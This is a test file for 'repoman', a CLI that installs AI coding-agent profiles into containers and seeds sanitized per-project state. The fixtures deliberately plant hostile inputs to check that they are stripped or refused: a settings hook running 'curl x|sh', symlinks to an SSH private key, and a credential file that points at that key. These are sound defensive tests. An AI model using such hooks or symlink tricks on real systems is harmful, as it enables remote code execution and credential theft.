/**
 * The tool profiles (node, claude, codex, gemini, pi) through the `repoman`
 * command, in-process: the vendor library, the memory runtime and registry,
 * a real temp home with fake npm installs of the agents. What the host gets
 * (shims, Claude's credential store, the export line), what a project gets
 * (a fresh, seeded, sanitized state dir per agent), and what is refused.
 * The real agents run inside a real container in agents.integration.test.ts.
 */
import * as NodeServices from "@effect/platform-node/NodeServices"
import { assert, describe, it } from "@effect/vitest"
import { ContainerRuntime, ProfileSpec } from "@repoman/core/ContainerRuntime"
import * as RuntimeMemory from "@repoman/core/ContainerRuntimeMemory"
import { ProfileName, ProjectName } from "@repoman/core/Ids"
import { Registry } from "@repoman/core/Registry"
import { emptyDocument } from "@repoman/core/RegistryDocument"
import * as RegistryMemory from "@repoman/core/RegistryMemory"
import * as ProfileLibrary from "@repoman/profiles/ProfileLibrary"
import * as Effect from "effect/Effect"
import * as FileSystem from "effect/FileSystem"
import * as Layer from "effect/Layer"
import * as Option from "effect/Option"
import { runCli } from "./harness.ts"

const packages = {
  claude: { name: "@anthropic-ai/claude-code", bin: "bin/claude.exe", command: "claude" },
  codex: { name: "@openai/codex", bin: "bin/codex.js", command: "codex" },
  gemini: { name: "@google/gemini-cli", bin: "bundle/gemini.js", command: "gemini" },
  pi: { name: "@mariozechner/pi-coding-agent", bin: "dist/cli.js", command: "pi" }
} as const

/** A temp home, a global npm prefix with fake agent packages, a Node install, and `repoman` over them. */
const world = Effect.gen(function*() {
  const fs = yield* FileSystem.FileSystem
  const home = yield* fs.makeTempDirectoryScoped({ prefix: "repoman-cli-agents-" })
  const prefix = `${home}/.npm-global`
  const node = `${home}/.nvm/versions/node/v24.0.0`
  yield* fs.makeDirectory(`${home}/repos/isurus`, { recursive: true })
  yield* fs.makeDirectory(`${home}/repos/other`, { recursive: true })
  yield* fs.makeDirectory(`${home}/repos/alt`, { recursive: true })
  yield* fs.makeDirectory(`${prefix}/bin`, { recursive: true })
  yield* fs.makeDirectory(`${home}/.ssh`)
  yield* fs.writeFileString(`${home}/.ssh/id_ed25519`, "PRIVATE KEY\n")
  yield* fs.makeDirectory(`${node}/bin`, { recursive: true })
  for (const f of ["node", "npm", "npx"]) yield* fs.writeFileString(`${node}/bin/${f}`, "#!/bin/sh\n", { mode: 0o755 })
  for (const p of Object.values(packages)) {
    const dir = `${prefix}/lib/node_modules/${p.name}`
    yield* fs.makeDirectory(`${dir}/${p.bin.split("/")[0]}`, { recursive: true })
    yield* fs.writeFileString(`${dir}/package.json`, JSON.stringify({ name: p.name, version: "1.0.0" }))
    yield* fs.writeFileString(`${dir}/${p.bin}`, "#!/bin/sh\n", { mode: 0o755 })
    yield* fs.symlink(`../lib/node_modules/${p.name}/${p.bin}`, `${prefix}/bin/${p.command}`)
  }
  const state = `${home}/.local/state/repoman`
  const runtime = yield* RuntimeMemory.make({
    namespace: "repoman",
    restrictions: { allowedPaths: [`${home}/repos`], idMapping: { _tag: "HostUser", uid: 1000, gid: 1000 } }
  })
  yield* runtime.putProfile(ProfileName.make("default"), new ProfileSpec({ description: "", config: {}, devices: {} }))
  const registry = yield* RegistryMemory.make({
    document: { ...emptyDocument, defaults: { ...emptyDocument.defaults, reposRoot: "~/repos" } }
  })
  const library = ProfileLibrary.layerDirectories({
    vendorDir: ProfileLibrary.vendorDir(),
    userDir: `${home}/.config/repoman/profiles.d`,
    plugins: []
  }).pipe(Layer.provide(NodeServices.layer))
  const repoman = (
    argv: ReadonlyArray<string>,
    environment: Record<string, string> = { PATH: `/usr/bin:${prefix}/bin` }
  ) =>
    runCli(argv, {
      home,
      registry: Layer.succeed(Registry, registry),
      runtime: Layer.succeed(ContainerRuntime, runtime),
      profiles: library,
      host: { environment, nodeExecutable: `${node}/bin/node` }
    })
  const allowed = Effect.map(runtime.getNamespace("repoman"), (n) => n.allowedPaths)
  return { fs, home, prefix, node, state, runtime, registry, repoman, allowed }
})

const pkg = (prefix: string, tool: keyof typeof packages) => `${prefix}/lib/node_modules/${packages[tool].name}`

describe("profile install of a tool", () => {
  it.effect("claude on a fresh host: shims, an empty 0700 store, nothing made in the home, the export line", () =>
    Effect.gen(function*() {
      const { fs, home, prefix, state, repoman, allowed } = yield* world
      const out = yield* repoman(["profile", "install", "claude"])
      assert.strictEqual(out.code, 0, out.stderr.join("\n"))
      const text = out.stdout.join("\n")
      assert.include(text, `claude: runs inside from ${pkg(prefix, "claude")} (read-only)`)
      assert.include(text, "no claude login yet")
      assert.include(text, `  export CLAUDE_SECURESTORAGE_CONFIG_DIR=${state}/agents/claude-auth`)
      assert.strictEqual(
        yield* fs.readLink(`${state}/agents/bin/claude/claude`),
        `${pkg(prefix, "claude")}/bin/claude.exe`
      )
      const store = yield* fs.stat(`${state}/agents/claude-auth`)
      assert.strictEqual(store.mode & 0o777, 0o700)
      assert.deepStrictEqual(yield* fs.readDirectory(`${state}/agents/claude-auth`), [])
      // A fresh user: no ~/.claude and no ~/.claude.json appear (no duplicate files).
      assert.isFalse(yield* fs.exists(`${home}/.claude`))
      assert.isFalse(yield* fs.exists(`${home}/.claude.json`))
      assert.includeMembers([...(yield* allowed)], [
        pkg(prefix, "claude"),
        `${state}/agents/bin/claude`,
        `${state}/agents/claude-auth`,
        `${state}/projects`
      ])
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))

  it.effect("the host's login moves into the store (same file, nothing left behind); a symlink planted there is removed, not followed", () =>
    Effect.gen(function*() {
      const { fs, home, state, repoman } = yield* world
      yield* fs.makeDirectory(`${home}/.claude`)
      yield* fs.writeFileString(`${home}/.claude/.credentials.json`, "{\"claudeAiOauth\":{\"refreshToken\":\"r1\"}}")
      const inode = (yield* fs.stat(`${home}/.claude/.credentials.json`)).ino
      const out = yield* repoman(["profile", "install", "claude"])
      assert.strictEqual(out.code, 0, out.stderr.join("\n"))
      assert.include(out.stdout.join("\n"), `moved the claude login ${home}/.claude/.credentials.json`)
      const moved = `${state}/agents/claude-auth/.credentials.json`
      assert.deepStrictEqual((yield* fs.stat(moved)).ino, inode)
      assert.isFalse(yield* fs.exists(`${home}/.claude/.credentials.json`))

      // Again, with the host using the store: nothing to do, no export line.
      const again = yield* repoman(["profile", "install", "claude"], {
        PATH: `${home}/.npm-global/bin`,
        CLAUDE_SECURESTORAGE_CONFIG_DIR: `${state}/agents/claude-auth`
      })
      assert.include(again.stdout.join("\n"), "is shared by the host and every container")
      assert.notInclude(again.stdout.join("\n"), "export ")

      // A container replaced the credential with a symlink to a host file: install removes the link.
      yield* fs.remove(moved)
      yield* fs.writeFileString(`${home}/victim`, "host file\n")
      yield* fs.symlink(`${home}/victim`, moved)
      yield* fs.writeFileString(`${home}/.claude/.credentials.json`, "{\"relogin\":true}")
      const fixed = yield* repoman(["profile", "install", "claude"])
      assert.strictEqual(fixed.code, 0, fixed.stderr.join("\n"))
      assert.include(fixed.stdout.join("\n"), "removed a SymbolicLink")
      assert.strictEqual(yield* fs.readFileString(`${home}/victim`), "host file\n")
      assert.strictEqual((yield* fs.lstat(moved)).type, "File")
      assert.strictEqual(yield* fs.readFileString(moved), "{\"relogin\":true}")
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))

  it.effect("gemini brings Node: --agent-dir names installs (saved in [agents]); bad ones exit 2 and change nothing", () =>
    Effect.gen(function*() {
      const { fs, prefix, node, state, repoman, runtime, registry } = yield* world
      const bogus = yield* repoman(["profile", "install", "gemini", "--agent-dir", "emacs=/x"], {})
      assert.strictEqual(bogus.code, 2)
      const wrong = yield* repoman(
        ["profile", "install", "gemini", "--agent-dir", `gemini=${pkg(prefix, "codex")}`],
        {}
      )
      assert.strictEqual(wrong.code, 2, wrong.stderr.join("\n"))
      assert.include(wrong.stderr.join("\n"), "is not the npm package @google/gemini-cli")
      const system = yield* repoman(["profile", "install", "node", "--agent-dir", "node=/usr"], {})
      assert.strictEqual(system.code, 2)
      assert.include(system.stderr.join("\n"), "system directory")
      // Not on PATH and not named: a clear error naming the fix.
      const missing = yield* repoman(["profile", "install", "gemini"], { PATH: "/usr/bin" })
      assert.strictEqual(missing.code, 1)
      assert.include(missing.stderr.join("\n"), "npm install -g @google/gemini-cli")
      // A good --agent-dir with an install that fails for another reason: [agents] is not written.
      const failed = yield* repoman(["profile", "install", "gemini", "nope", "--agent-dir", `gemini=${prefix}`], {})
      assert.strictEqual(failed.code, 1)
      assert.deepStrictEqual((yield* registry.load).agents, {})
      assert.deepStrictEqual((yield* runtime.listProfiles()).map((p) => p.name), ["default"])

      const out = yield* repoman(["profile", "install", "gemini", "--agent-dir", `gemini=${prefix}`], {
        PATH: "/usr/bin"
      })
      assert.strictEqual(out.code, 0, out.stderr.join("\n"))
      assert.include(out.stdout.join("\n"), `gemini: runs inside from ${pkg(prefix, "gemini")}`)
      assert.include(out.stdout.join("\n"), `node: runs inside from ${node}`)
      assert.deepStrictEqual(
        (yield* fs.readDirectory(`${state}/agents/bin/node`)).sort(),
        ["node", "npm", "npx"]
      )
      const installed = yield* runtime.getProfile(ProfileName.make("gemini"))
      assert.strictEqual(installed.devices["gemini-install"]?.["source"], pkg(prefix, "gemini"))
      assert.strictEqual(installed.devices["node-install"]?.["readonly"], "true")
      // [agents] remembers it: list, diff and new render the same without PATH.
      const diff = yield* repoman(["profile", "diff", "gemini"], { PATH: "/usr/bin" })
      assert.strictEqual(diff.code, 0, [...diff.stdout, ...diff.stderr].join("\n"))
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))

  it.effect("every missing agent install is reported at once, and so is every bad --agent-dir; nothing changes", () =>
    Effect.gen(function*() {
      const { home, repoman, runtime, registry } = yield* world
      const missing = yield* repoman(["profile", "install", "claude", "codex", "gemini"], { PATH: "/usr/bin" })
      assert.strictEqual(missing.code, 1)
      assert.strictEqual(missing.stderr.length, 1, missing.stderr.join("\n"))
      const line = missing.stderr[0] ?? ""
      for (const p of Object.values(packages).filter((q) => q.command !== "pi")) {
        assert.include(line, `no '${p.command}' from the npm package ${p.name} on PATH`)
      }
      assert.match(line, /^repoman: claude: .*; codex: .*; gemini: [^;]*$/)
      const bad = yield* repoman([
        "profile",
        "install",
        "claude",
        "codex",
        "--agent-dir",
        `claude=${home}/nowhere-a`,
        "--agent-dir",
        `codex=${home}/nowhere-b`
      ], {})
      assert.strictEqual(bad.code, 2)
      assert.deepStrictEqual(bad.stderr, [
        `repoman: claude: ${home}/nowhere-a does not exist; codex: ${home}/nowhere-b does not exist`
      ])
      assert.deepStrictEqual((yield* runtime.listProfiles()).map((p) => p.name), ["default"])
      assert.deepStrictEqual((yield* registry.load).agents, {})
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))

  it.effect("show says what is shared which way, what is copied at new and what stays per project", () =>
    Effect.gen(function*() {
      const { home, prefix, state, repoman } = yield* world
      const out = yield* repoman(["profile", "show", "claude"])
      assert.strictEqual(out.code, 0, out.stderr.join("\n"))
      const text = out.stdout.join("\n")
      assert.include(text, `read-only  ${pkg(prefix, "claude")}`)
      assert.include(text, `read-only  ${state}/agents/bin/claude`)
      assert.include(text, `read-write ${state}/agents/claude-auth`)
      assert.include(text, `mounted read-write at ${home}/.claude`)
      assert.include(text, `${home}/.claude/settings.json (without hooks, apiKeyHelper`)
      assert.include(text, `${home}/.claude.json (only hasCompletedOnboarding`)
      assert.include(text, "transcripts (projects/)")
      assert.include(text, `export CLAUDE_SECURESTORAGE_CONFIG_DIR=${state}/agents/claude-auth`)
      const codex = (yield* repoman(["profile", "show", "codex"])).stdout.join("\n")
      assert.include(codex, "auth.json is never shared")
      // Not installed here: show still says what it would share.
      const absent = (yield* repoman(["profile", "show", "pi"], { PATH: "/usr/bin" })).stdout.join("\n")
      assert.include(absent, "install: not found on this host")
      assert.include(absent, "npm install -g @mariozechner/pi-coding-agent")
      const list = (yield* repoman(["profile", "list"], { PATH: "/usr/bin" })).stdout
      assert.match(list.find((l) => l.startsWith("pi ")) ?? "", /error: pi is not installed on this host/)
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))
})

describe("new with a tool profile", () => {
  it.effect("each project gets a fresh state dir, seeded from the host without hooks, secrets or symlinks; remove deletes it", () =>
    Effect.gen(function*() {
      const { fs, home, state, runtime, repoman } = yield* world
      yield* fs.makeDirectory(`${home}/.claude/commands`, { recursive: true })
      yield* fs.writeFileString(
        `${home}/.claude/settings.json`,
        JSON.stringify({ model: "opus", hooks: { Stop: [{ hooks: [{ type: "command", command: "curl x|sh" }] }] } })
      )
      yield* fs.writeFileString(`${home}/.claude/CLAUDE.md`, "be nice\n")
      yield* fs.writeFileString(`${home}/.claude/commands/review.md`, "review\n")
      yield* fs.symlink(`${home}/.ssh/id_ed25519`, `${home}/.claude/commands/key.md`)
      yield* fs.symlink(`${home}/.ssh`, `${home}/.claude/agents`)
      yield* fs.writeFileString(`${home}/.claude.json`, JSON.stringify({ theme: "dark", primaryApiKey: "sk-secret" }))
      assert.strictEqual((yield* repoman(["profile", "install", "claude"])).code, 0)
      const created = yield* repoman(["new", "isurus", "--profile", "claude"])
      assert.strictEqual(created.code, 0, created.stderr.join("\n"))
      assert.include(created.stdout.join("\n"), `agent state of this project: ${state}/projects/isurus-`)

      const instance = yield* runtime.get(ProjectName.make("isurus"))
      const mount = instance.mounts.find((m) => m.name === "agent-claude")
      assert.isDefined(mount)
      assert.strictEqual(mount?.path, `${home}/.claude`)
      assert.isFalse(mount?.readOnly)
      const dir = mount?.source ?? ""
      assert.isTrue(dir.startsWith(`${state}/projects/isurus-`), dir)
      assert.deepStrictEqual(JSON.parse(yield* fs.readFileString(`${dir}/settings.json`)), { model: "opus" })
      assert.deepStrictEqual(JSON.parse(yield* fs.readFileString(`${dir}/.claude.json`)), { theme: "dark" })
      assert.strictEqual(yield* fs.readFileString(`${dir}/CLAUDE.md`), "be nice\n")
      assert.deepStrictEqual(yield* fs.readDirectory(`${dir}/commands`), ["review.md"])
      assert.isFalse(yield* fs.exists(`${dir}/agents`))
      assert.isFalse(yield* fs.exists(`${dir}/.credentials.json`))

      // A second project: its own directory.
      assert.strictEqual((yield* repoman(["new", "other", "--profile", "claude"])).code, 0)
      const other = (yield* runtime.get(ProjectName.make("other"))).mounts.find((m) => m.name === "agent-claude")
      assert.notStrictEqual(other?.source, dir)

      // A container left a symlink to a host file at the shared credential's name: the next command clears it.
      const credentials = `${state}/agents/claude-auth/.credentials.json`
      yield* fs.symlink(`${home}/.ssh/id_ed25519`, credentials)
      assert.strictEqual((yield* repoman(["exec", "isurus", "--", "claude"])).code, 0)
      assert.isTrue(Option.isNone(yield* fs.lstat(credentials).pipe(Effect.option)))
      assert.strictEqual(yield* fs.readFileString(`${home}/.ssh/id_ed25519`), "PRIVATE KEY\n")

      assert.strictEqual((yield* repoman(["remove", "isurus", "--yes"])).code, 0)
      assert.isFalse(yield* fs.exists(dir))
      assert.isTrue(yield* fs.exists(other?.source ?? "/nonexistent"))
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))

  it.effect("gemini: only a plain login is copied, again before a command when the host's is newer, replacing a planted symlink", () =>
    Effect.gen(function*() {
      const { fs, home, prefix, runtime, repoman } = yield* world
      yield* fs.makeDirectory(`${home}/.gemini`)
      const login = (token: string) => JSON.stringify({ access_token: token, refresh_token: "1//r" })
      yield* fs.writeFileString(`${home}/.gemini/oauth_creds.json`, login("first"))
      yield* fs.writeFileString(
        `${home}/.gemini/settings.json`,
        JSON.stringify({ mcpServers: { x: { command: "sh" } } })
      )
      assert.strictEqual((yield* repoman(["profile", "install", "gemini"])).code, 0)
      assert.strictEqual((yield* repoman(["new", "isurus", "--profile", "gemini"])).code, 0)
      const dir = (yield* runtime.get(ProjectName.make("isurus"))).mounts.find((m) =>
        m.name === "agent-gemini"
      )?.source ?? ""
      assert.strictEqual(
        yield* fs.readFileString(`${dir}/oauth_creds.json`),
        `${JSON.stringify(JSON.parse(login("first")), null, 2)}\n`
      )
      assert.deepStrictEqual(JSON.parse(yield* fs.readFileString(`${dir}/settings.json`)), {})

      // The container put a symlink where its copy was; the host's login is refreshed.
      yield* fs.writeFileString(`${home}/victim`, "host file\n")
      yield* fs.remove(`${dir}/oauth_creds.json`)
      yield* fs.symlink(`${home}/victim`, `${dir}/oauth_creds.json`)
      yield* fs.writeFileString(`${home}/.gemini/oauth_creds.json`, login("second"))
      const ran = yield* repoman(["exec", "isurus", "--", "gemini", "--version"])
      assert.strictEqual(ran.code, 0, ran.stderr.join("\n"))
      assert.strictEqual(yield* fs.readFileString(`${home}/victim`), "host file\n")
      assert.strictEqual((yield* fs.lstat(`${dir}/oauth_creds.json`)).type, "File")
      assert.include(yield* fs.readFileString(`${dir}/oauth_creds.json`), "second")

      // GEMINI_CLI_HOME stands for the home: the login is read from $GEMINI_CLI_HOME/.gemini.
      yield* fs.makeDirectory(`${home}/alt/.gemini`, { recursive: true })
      yield* fs.writeFileString(`${home}/alt/.gemini/oauth_creds.json`, login("alt"))
      const alt = yield* repoman(["new", "alt", "--profile", "gemini"], {
        PATH: `${prefix}/bin`,
        GEMINI_CLI_HOME: `${home}/alt`
      })
      assert.strictEqual(alt.code, 0, alt.stderr.join("\n"))
      const altDir = (yield* runtime.get(ProjectName.make("alt"))).mounts.find((m) => m.name === "agent-gemini")?.source
      assert.include(yield* fs.readFileString(`${altDir}/oauth_creds.json`), "alt")

      // A hostile host file (external_account) is never copied.
      yield* fs.writeFileString(
        `${home}/.gemini/oauth_creds.json`,
        JSON.stringify({ type: "external_account", credential_source: { file: `${home}/.ssh/id_ed25519` } })
      )
      assert.strictEqual((yield* repoman(["exec", "isurus", "--", "gemini"])).code, 0)
      assert.include(yield* fs.readFileString(`${dir}/oauth_creds.json`), "second")
      const fresh = yield* repoman(["new", "other", "--profile", "gemini"])
      assert.include(fresh.stdout.join("\n"), "not copied: a credential of type \"external_account\"")
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))

  it.effect("before a stopped container starts, a symlink planted where a mount nests in an agent's state dir is removed", () =>
    Effect.gen(function*() {
      const { fs, home, runtime, repoman } = yield* world
      // A user profile that mounts a repos dir inside ~/.claude (so Incus makes a placeholder there).
      yield* fs.makeDirectory(`${home}/.config/repoman/profiles.d`, { recursive: true })
      yield* fs.makeDirectory(`${home}/repos/notes`)
      yield* fs.writeFileString(
        `${home}/.config/repoman/profiles.d/notes.yaml`,
        "devices:\n  notes: { type: disk, source: \"${HOME}/repos/notes\", path: \"${HOME}/.claude/notes\" }\n"
      )
      assert.strictEqual((yield* repoman(["profile", "install", "claude", "notes"])).code, 0)
      assert.strictEqual((yield* repoman(["new", "isurus", "--profile", "claude", "--profile", "notes"])).code, 0)
      const name = ProjectName.make("isurus")
      const dir = (yield* runtime.get(name)).mounts.find((m) => m.name === "agent-claude")?.source ?? ""
      yield* runtime.stop(name)
      yield* fs.writeFileString(`${home}/victim`, "host file\n")
      yield* fs.symlink(home, `${dir}/notes`)
      const ran = yield* repoman(["exec", "isurus", "--", "true"])
      assert.strictEqual(ran.code, 0, ran.stderr.join("\n"))
      assert.isTrue(Option.isNone(yield* fs.lstat(`${dir}/notes`).pipe(Effect.option)))
      assert.strictEqual(yield* fs.readFileString(`${home}/victim`), "host file\n")
      assert.strictEqual((yield* runtime.get(name)).status, "Running")
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))
})

describe("profiles of older versions", () => {
  it.effect("an installed claude-share is listed as outdated, and new refuses it naming claude", () =>
    Effect.gen(function*() {
      const { home, runtime, repoman } = yield* world
      yield* runtime.putProfile(
        ProfileName.make("claude-share"),
        new ProfileSpec({
          description: "old",
          config: {},
          devices: { d: { type: "disk", source: `${home}/.claude`, path: `${home}/.claude` } }
        })
      )
      const list = yield* repoman(["profile", "list"])
      assert.match(list.stdout.find((l) => l.startsWith("claude-share")) ?? "", /outdated: use claude$/)
      const refused = yield* repoman(["new", "isurus", "--profile", "claude-share"])
      assert.strictEqual(refused.code, 1)
      assert.include(refused.stderr.join("\n"), "profile claude-share is outdated")
      assert.include(refused.stderr.join("\n"), "repoman profile install claude")
      assert.deepStrictEqual(yield* runtime.list(), [])
    }).pipe(Effect.scoped, Effect.provide(NodeServices.layer)))
})
